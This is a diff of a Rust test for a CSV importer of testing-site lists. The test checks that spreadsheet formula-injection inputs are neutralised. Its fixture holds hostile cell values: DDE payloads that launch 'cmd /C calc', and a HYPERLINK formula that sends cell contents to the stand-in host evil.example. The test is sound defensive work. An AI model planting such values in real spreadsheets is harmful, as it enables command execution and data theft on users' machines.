@@ -6,9 +6,11 @@ use crate::support::import::{file, import};
 use crate::support::{City, Folder, anxin, text};
 use anxin_import::csv::parse;
 
+/// What is nothing but a formula is no text, and empty; what only begins like one is somebody's text.
 const LIST: &str = "采样点名称,地址,开放时间,备注,联系电话\n\
-    \"=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"甲点\"\")\",=1+1路1号,8:00-17:00,\"@SUM(1+9)*cmd|' /C calc'!A0\",0573-0000-1000\n\
-    乙点,+乙路2号,8:00-17:00,-2+3+cmd|' /C calc'!A0,+86 0573-0000-1001\n";
+    +甲点,-甲路1号,8:00-17:00,\"@SUM(1+9)*cmd|' /C calc'!A0\",0573-0000-1000\n\
+    @乙点,+乙路2号,8:00-17:00,-2+3+cmd|' /C calc'!A0,+86 0573-0000-1001\n\
+    丙点,\"=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"丙路3号\"\")\",8:00-17:00,=1+1,0573-0000-1002\n";
 
 /// Every cell of a sheet.
 fn cells(city: &City, name: &str) -> Vec<String> {
@@ -31,20 +33,20 @@ fn no_cell_of_an_imported_list_is_a_formula_in_the_sheet_and_residents_read_it_a
     assert!(cells_of_text(LIST).iter().any(|cell| is_run(cell)), "the list is harmful");
     let now = ["--now", "2022-03-16 09:00"];
     let (code, report) = import(city.path(), &list, "sites", &now);
-    assert!(code == 0 && report["imported"] == 2, "{report}");
+    assert!(code == 0 && report["imported"] == 3, "{report}");
     for sheet in ["sites.csv", "sources.csv", "towns.csv"] {
         let run: Vec<_> = cells(&city, sheet).into_iter().filter(|cell| is_run(cell)).collect();
         assert!(run.is_empty(), "{sheet}: {run:?}");
     }
-    assert!(cells(&city, "sites.csv").iter().any(|cell| cell.starts_with("'=HYPERLINK(")));
+    assert!(["'+甲点", "'@乙点"].iter().all(|name| cells(&city, "sites.csv").iter().any(|cell| cell == name)));
     // Nothing of the guard reaches a resident, and a second import finds its rows again.
     let (_, report) = import(city.path(), &list, "sites", &now);
-    assert_eq!(report["merged"]["unchanged"], 2, "{report}");
+    assert_eq!(report["merged"]["unchanged"], 3, "{report}");
     let out = Folder::new();
     let (code, said, err) = anxin(&["build", text(city.path()), text(out.path())]);
     assert_eq!(code, 0, "{said}{err}");
     let sites = fs::read_to_string(out.join("sites.geojson")).unwrap();
-    assert!(sites.contains(r#"=HYPERLINK(\"http://evil.example/\"&A1"#) && !sites.contains("'=HYPERLINK"), "{sites}");
+    assert!(sites.contains("\"+甲点\"") && sites.contains("\"@乙点\"") && !sites.contains("evil"), "{sites}");
 }
 
 fn cells_of_text(text: &str) -> Vec<String> {
